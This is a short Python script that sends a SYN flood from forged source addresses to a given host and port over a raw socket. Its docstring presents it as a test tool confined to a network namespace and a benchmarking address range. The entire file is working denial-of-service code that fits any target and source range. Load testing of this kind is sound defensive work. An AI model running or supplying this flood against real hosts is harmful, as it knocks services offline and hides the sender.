#!/usr/bin/env python3
"""syn_flood.py DST PORT MAX_SYNS MAX_SECONDS [RATE [SOURCES]]: a SYN flood from forged sources.

Sends bare SYNs (MSS 1460) to DST:PORT through a raw socket, each from a
random address in SOURCES (default 198.18.0.0/15, RFC 2544's benchmarking
range: never a real host, and off-link, so tapir answers through its
gateway and never ARPs for them; an on-link range makes tapir ARP for
addresses nobody answers) and a random port and ISN, until MAX_SYNS are sent or
MAX_SECONDS have passed, whichever comes first; at most RATE a second if
given and not 0, else as fast as it can. Needs CAP_NET_RAW; meant to
run only inside the test's own network namespace. Prints one line:
"sent N in S s (R/s)".
"""
import os
import random
import socket
import struct
import sys
import time


def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def main():
    dst, port, max_syns, max_secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 0.0
    net, bits = (sys.argv[6] if len(sys.argv) > 6 else "198.18.0.0/15").split("/")
    host_bits = 32 - int(bits)
    base = struct.unpack("!I", socket.inet_aton(net))[0] & ~((1 << host_bits) - 1) & 0xFFFFFFFF
    dst_b = socket.inet_aton(dst)
    (dst_hi, dst_lo) = struct.unpack("!HH", dst_b)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rng = random.Random(int.from_bytes(os.urandom(8), "little"))
    # The TCP checksum's fixed words: destination, protocol and length (the
    # pseudo-header), destination port, data offset and flags, window, the
    # MSS option. What changes per SYN is added to it below.
    tcp_len = 24
    fixed = dst_hi + dst_lo + 6 + tcp_len + port + 0x6002 + 0xFFFF + 0x0204 + 1460
    pack = struct.Struct("!BBHHHBBH4s4sHHIIHHHHHH").pack
    addr = (dst, 0)
    sent = tries = 0
    start = time.monotonic()
    deadline = start + max_secs
    while sent < max_syns:
        tries += 1
        if tries % 256 == 0:
            now = time.monotonic()
            if now >= deadline:
                break
            ahead = sent / rate - (now - start) if rate else 0
            if ahead > 0:
                time.sleep(min(ahead, deadline - now))
        src = base | rng.getrandbits(host_bits)
        sport = 1024 + rng.getrandbits(15)
        seq = rng.getrandbits(32)
        s = fixed + (src >> 16) + (src & 0xFFFF) + sport + (seq >> 16) + (seq & 0xFFFF)
        csum = ~fold(s) & 0xFFFF
        # IP total length, ID and checksum: the kernel fills them in (raw(7)).
        pkt = pack(0x45, 0, 0, 0, 0, 64, 6, 0, src.to_bytes(4, "big"), dst_b,
                   sport, port, seq, 0, 0x6002, 0xFFFF, csum, 0, 0x0204, 1460)
        try:
            sock.sendto(pkt, addr)
        except (BlockingIOError, OSError):
            continue                                    # the device queue is full: go on
        sent += 1
    secs = time.monotonic() - start
    print("sent %d in %.2f s (%d/s)" % (sent, secs, sent / secs if secs else 0), flush=True)


if __name__ == "__main__":
    main()
